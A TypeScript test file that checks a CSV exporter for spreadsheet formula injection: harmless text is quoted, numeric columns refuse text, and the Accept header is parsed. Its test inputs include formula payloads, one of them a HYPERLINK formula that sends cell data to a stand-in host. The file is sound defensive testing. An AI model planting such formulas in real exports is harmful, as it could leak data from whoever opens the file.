import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { type CsvColumn, csvText, neutralize, wantsCsv } from './csv.js'

interface Vendor {
  name: string
  amount: string
}
const columns: CsvColumn<Vendor>[] = [
  { header: 'name', kind: 'text', cell: (r) => r.name },
  { header: 'amount', kind: 'number', cell: (r) => r.amount },
]

describe('CSV tables', () => {
  it('neutralizes every text cell a spreadsheet would run as a formula, and leaves numbers alone (T6.1)', async () => {
    const hostile = [
      '=HYPERLINK("http://x/?"&A1)',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '＝1+1',
    ]
    const text = await csvText(
      columns,
      hostile.map((name) => ({ name, amount: '-12.50' })),
    )
    const rows = parse(text) as string[][]
    expect(rows[0]).toEqual(['name', 'amount'])
    expect(rows.slice(1).map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`))
    expect(rows.slice(1).every((r) => r[1] === '-12.50')).toBe(true)
    // The amount is written bare (a number to a spreadsheet), every text cell quoted.
    expect(text).toContain(',-12.50\r\n')
    expect(text.split('\r\n')[1]).toBe('"\'=HYPERLINK(""http://x/?""&A1)",-12.50')
  })

  it('writes harmless text as it is, quoted, with embedded quotes and newlines round-tripping (RFC 4180)', async () => {
    const text = await csvText(columns, [{ name: 'Support "tier 2"\nbot, EU', amount: '3' }])
    expect(parse(text)).toEqual([
      ['name', 'amount'],
      ['Support "tier 2"\nbot, EU', '3'],
    ])
  })

  it('refuses text in a numeric column rather than writing it (a bug, never data)', async () => {
    await expect(csvText(columns, [{ name: 'x', amount: '=1' }])).rejects.toThrow(/numeric/)
  })

  it('neutralizes only the first character', () => {
    expect(neutralize('a=b')).toBe('a=b')
    expect(neutralize('')).toBe('')
  })

  it('reads ?format=csv and an Accept header that prefers text/csv', () => {
    const req = (accept?: string) => ({ headers: accept === undefined ? {} : { accept } }) as never
    expect(wantsCsv(req(), 'csv')).toBe(true)
    expect(wantsCsv(req('text/csv'), 'json')).toBe(false)
    expect(wantsCsv(req('text/csv'), undefined)).toBe(true)
    expect(wantsCsv(req('application/json, text/csv;q=0.5'), undefined)).toBe(false)
    expect(wantsCsv(req('text/csv, application/json;q=0.9'), undefined)).toBe(true)
    expect(wantsCsv(req('*/*'), undefined)).toBe(false)
    expect(wantsCsv(req(), undefined)).toBe(false)
  })
})

describe('empty cells', () => {
  it('are left empty, not written as an empty quoted string', async () => {
    const text = await csvText(columns, [{ name: '', amount: null as unknown as string }])
    expect(text.split('\r\n')[1]).toBe(',')
  })
})
